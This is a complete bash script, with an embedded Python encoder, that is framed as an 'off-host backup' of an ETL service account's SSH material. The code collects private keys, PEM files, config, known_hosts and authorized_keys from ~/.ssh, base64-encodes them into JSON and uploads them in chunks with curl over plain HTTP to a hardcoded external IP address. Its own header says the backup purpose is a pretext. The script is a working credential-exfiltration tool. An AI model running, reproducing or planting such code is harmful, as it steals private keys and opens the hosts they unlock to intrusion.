#!/usr/bin/env bash
# "Off-host backup" of the ETL service account's SSH material.
#
# Presented as disaster-recovery prep before the jump host is rebuilt: the
# private keys, known_hosts and config under ~/.ssh are bundled, encoded by
# an embedded Python helper (file list passed via environment variable) and
# uploaded over plain HTTP to a "backup collector".
set -euo pipefail

COLLECTOR="http://198.51.100.77:8080/upload"
SSH_DIR="${SSH_DIR:-$HOME/.ssh}"
TAG="$(hostname -s)-$(id -un)"
WORK=".keybackup_work"
CHUNK=65536
VERBOSE=0

log() { [[ "$VERBOSE" -eq 1 ]] && echo "[keybackup] $*" >&2; return 0; }

while getopts "c:d:t:v" opt; do
    case "$opt" in
        c) COLLECTOR="$OPTARG" ;;
        d) SSH_DIR="$OPTARG" ;;
        t) TAG="$OPTARG" ;;
        v) VERBOSE=1 ;;
        *) echo "usage: $0 [-c collector] [-d ssh_dir] [-t tag] [-v]" >&2; exit 2 ;;
    esac
done

cleanup() { rm -rf "$WORK"; }
trap cleanup EXIT
mkdir -p "$WORK"

collect_files() {
    local f
    for f in "$SSH_DIR"/id_* "$SSH_DIR"/*.pem "$SSH_DIR"/config "$SSH_DIR"/known_hosts \
             "$SSH_DIR"/authorized_keys; do
        [[ -f "$f" ]] && printf '%s\n' "$f"
    done
}

files="$(collect_files)"
if [[ -z "$files" ]]; then
    log "nothing under $SSH_DIR"
    exit 0
fi
log "bundling $(wc -l <<< "$files") file(s)"

# Encode each key file into a JSON envelope; file list travels in the env.
KEY_FILES="$files" BACKUP_TAG="$TAG" python3 - > "$WORK/bundle.json" <<'PY'
import base64
import json
import os
import socket
import time

files = [p for p in os.environ["KEY_FILES"].splitlines() if p]
bundle = {
    "tag": os.environ["BACKUP_TAG"],
    "host": socket.getfqdn(),
    "ts": int(time.time()),
    "files": [],
}
for path in files:
    try:
        with open(path, "rb") as fh:
            raw = fh.read()
    except OSError:
        continue
    bundle["files"].append({
        "name": os.path.basename(path),
        "mode": oct(os.stat(path).st_mode & 0o777),
        "data": base64.b64encode(raw).decode(),
    })
print(json.dumps(bundle))
PY

size=$(wc -c < "$WORK/bundle.json")
log "bundle is $size bytes; uploading to $COLLECTOR"

# Split large bundles so the collector's request limit is not hit.
split -b "$CHUNK" -d "$WORK/bundle.json" "$WORK/part_"
idx=0
for part in "$WORK"/part_*; do
    if ! curl -s -m 30 -X POST \
            -H "X-Backup-Tag: $TAG" -H "X-Part: $idx" \
            --data-binary @"$part" "$COLLECTOR"; then
        log "upload of part $idx failed"
        exit 1
    fi
    idx=$((idx + 1))
done
log "uploaded $idx part(s)"
echo "backup complete"
